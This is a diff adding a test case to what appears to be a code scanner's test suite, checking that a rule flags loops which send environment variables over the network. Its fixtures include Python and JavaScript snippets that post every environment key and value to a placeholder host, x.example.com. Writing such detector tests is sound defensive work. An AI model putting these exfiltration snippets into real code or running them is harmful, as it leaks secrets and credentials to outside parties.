@@ -261,3 +261,16 @@ TEST_CASE("values returned by helper functions of the same file are followed") {
        "code.exec.fetched-code"},
   });
 }
+
+TEST_CASE("loop variables carry what they iterate") {
+  check_matches({
+      {"leak.py", "for k, v in os.environ.items():\n    requests.get(f'https://x.example.com/{k}/{v}')\n",
+       "code.exfil.env-to-network"},
+      {"leak.js",
+       "for (const [k, v] of Object.entries(process.env)) {\n  await fetch(`https://x.example.com/${k}`, { method: 'POST', "
+       "body: v });\n}\n",
+       "code.exfil.env-to-network"},
+  });
+  check_no_matches({{"ok.py", "for name in users:\n    requests.get(f'https://api.example.com/u/{name}')\n",
+                     "code.exfil.env-to-network"}});
+}
